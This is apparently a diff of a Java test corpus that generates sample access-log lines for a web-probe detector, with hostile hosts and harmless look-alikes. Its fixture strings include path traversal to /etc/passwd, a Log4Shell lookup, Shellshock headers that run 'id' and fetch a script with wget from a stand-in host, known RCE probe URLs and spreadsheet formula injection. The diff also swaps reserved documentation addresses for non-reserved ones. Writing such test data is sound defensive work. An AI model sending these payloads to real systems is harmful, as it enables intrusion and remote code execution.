@@ -77,38 +77,38 @@ final class Corpus {
         new Req("GET", "/cgi-bin/test-cgi", "HTTP/1.0", 404, "-", "-", true),
         new Req("GET", "/cgi-bin/handler", "HTTP/1.0", 404, "-", "-", true),
         ok("/"), ok("/index.html")));
-    m.put("198.51.100.10", List.of(get("/.env"), get("/.git/config"), ok("/robots.txt")));
-    m.put("198.51.100.11", List.of(
+    m.put("11.51.100.10", List.of(get("/.env"), get("/.git/config"), ok("/robots.txt")));
+    m.put("11.51.100.11", List.of(
         new Req("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "HTTP/1.1", 404, "-", "Go-http-client/1.1", true),
         ok("/")));
-    m.put("203.0.113.20", List.of(
+    m.put("11.0.113.20", List.of(
         new Req("POST", "/cgi-bin/luci/;stok=/locale?form=country", "HTTP/1.1", 404, "-", "Go-http-client/1.1", true),
         new Req("POST", "/HNAP1/", "HTTP/1.1", 404, "-", "-", true),
         new Req("POST", "/boaform/admin/formLogin", "HTTP/1.1", 404, "-", "-", true)));
-    m.put("203.0.113.30", List.of(get("/cgi-bin/../../../../etc/passwd"), ok("/about/")));
-    m.put("203.0.113.31", List.of(get("/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd"), ok("/")));
-    m.put("203.0.113.32", List.of(get("/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd"), ok("/")));
-    m.put("203.0.113.40", List.of(ua("/", "${jndi:ldap://x/a}", true), ok("/news/")));
-    m.put("203.0.113.41", List.of(
+    m.put("11.0.113.30", List.of(get("/cgi-bin/../../../../etc/passwd"), ok("/about/")));
+    m.put("11.0.113.31", List.of(get("/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd"), ok("/")));
+    m.put("11.0.113.32", List.of(get("/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd"), ok("/")));
+    m.put("11.0.113.40", List.of(ua("/", "${jndi:ldap://x/a}", true), ok("/news/")));
+    m.put("11.0.113.41", List.of(
         new Req("GET", "/cgi-bin/status", "HTTP/1.1", 404, "() { :; }; /bin/bash -c id", BROWSER, true), ok("/")));
-    m.put("203.0.113.44", List.of(
+    m.put("11.0.113.44", List.of(
         ua("/cgi-bin/test.cgi", "() { :; }; /bin/bash -c \"wget http://x.example/a.sh\"", true), ok("/")));
-    m.put("203.0.113.42", List.of(
+    m.put("11.0.113.42", List.of(
         ua("/item.php?id=1", "sqlmap/1.7.2#stable (https://sqlmap.org)", true),
         ua("/item.php?id=2", "sqlmap/1.7.2#stable (https://sqlmap.org)", true)));
-    m.put("203.0.113.43", List.of(
+    m.put("11.0.113.43", List.of(
         ua("/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", true),
         ua("/index.html", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000004)", true)));
     m.put("a1.scanfarm.net", List.of(get("/phpmyadmin/"), get("/manager/html"), ok("/")));
     m.put("a2.scanfarm.net", List.of(get("/phpMyAdmin/index.php"), ok("/favicon.ico")));
     m.put("p3.probe.co.jp", List.of(
         new Req("POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "HTTP/1.1", 404, "-", BROWSER, true)));
-    m.put("192.0.2.200", List.of(
+    m.put("11.0.2.200", List.of(
         get("/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21"),
         ok("/")));
-    m.put("2001:db8::bad", List.of(get("/.env"), ok("/")));
+    m.put("2a00:db8::bad", List.of(get("/.env"), ok("/")));
     // Attacker text that must not run as a formula in a spreadsheet.
-    m.put("198.51.100.77", List.of(
+    m.put("11.51.100.77", List.of(
         new Req("GET", "/.git/config", "HTTP/1.1", 404, "@SUM(1+1)", "=HYPERLINK(1)", true),
         new Req("GET", "/+cmd", "HTTP/1.1", 404, "-1+2", "+calc", false)));
     // Hostile names: no header or file name may carry them.
@@ -121,17 +121,17 @@ final class Corpus {
   /** Look-alikes: hosts whose requests mention probe words but probe nothing. */
   static Map<String, List<Req>> lookAlikes() {
     Map<String, List<Req>> m = new LinkedHashMap<>();
-    m.put("192.0.2.101", List.of(ok("/photos/phf-2019.jpg")));
-    m.put("192.0.2.102", List.of(ok("/docs/handler.html")));
-    m.put("192.0.2.103", List.of(ok("/search?q=phf")));
-    m.put("192.0.2.104", List.of(new Req("GET", "/index.html", "HTTP/1.1", 200, "http://forum.example/thread?about=/cgi-bin/phf", BROWSER, false)));
-    m.put("192.0.2.105", List.of(ua("/", "phfinder-bot/1.0 (+http://phfinder.example/bot)", false)));
-    m.put("192.0.2.106", List.of(ok("/blog/env-variables")));
-    m.put("192.0.2.107", List.of(ok("/git/config-guide.html")));
-    m.put("192.0.2.108", List.of(ok("/passwd-reset")));
-    m.put("192.0.2.109", List.of(ok("/shop/handler-gloves")));
-    m.put("192.0.2.110", List.of(ok("/docs/test-cgi-explained.html")));
-    m.put("192.0.2.111", List.of(
+    m.put("11.0.2.101", List.of(ok("/photos/phf-2019.jpg")));
+    m.put("11.0.2.102", List.of(ok("/docs/handler.html")));
+    m.put("11.0.2.103", List.of(ok("/search?q=phf")));
+    m.put("11.0.2.104", List.of(new Req("GET", "/index.html", "HTTP/1.1", 200, "http://forum.example/thread?about=/cgi-bin/phf", BROWSER, false)));
+    m.put("11.0.2.105", List.of(ua("/", "phfinder-bot/1.0 (+http://phfinder.example/bot)", false)));
+    m.put("11.0.2.106", List.of(ok("/blog/env-variables")));
+    m.put("11.0.2.107", List.of(ok("/git/config-guide.html")));
+    m.put("11.0.2.108", List.of(ok("/passwd-reset")));
+    m.put("11.0.2.109", List.of(ok("/shop/handler-gloves")));
+    m.put("11.0.2.110", List.of(ok("/docs/test-cgi-explained.html")));
+    m.put("11.0.2.111", List.of(
         ok("/wp-login.php"),
         new Req("POST", "/wp-login.php", "HTTP/1.1", 302, "https://www.site.example/wp-login.php", BROWSER, false),
         new Req("GET", "/wp-admin/", "HTTP/1.1", 200, "https://www.site.example/wp-login.php", BROWSER, false),
@@ -163,7 +163,7 @@ final class Corpus {
       case NGINX -> host + " - - " + time + " \"" + nginx(request) + "\" " + r.status() + " " + size
           + " \"" + nginx(r.referer()) + "\" \"" + nginx(r.ua()) + "\"";
       case EXTRA -> host + " - - " + time + " \"" + esc(request) + "\" " + r.status() + " " + size
-          + " \"" + esc(r.referer()) + "\" \"" + esc(r.ua()) + "\" \"203.0.113.250, 10.0.0.1\" 0."
+          + " \"" + esc(r.referer()) + "\" \"" + esc(r.ua()) + "\" \"11.0.113.250, 10.0.0.1\" 0."
           + (100 + bytes % 900);
     };
   }
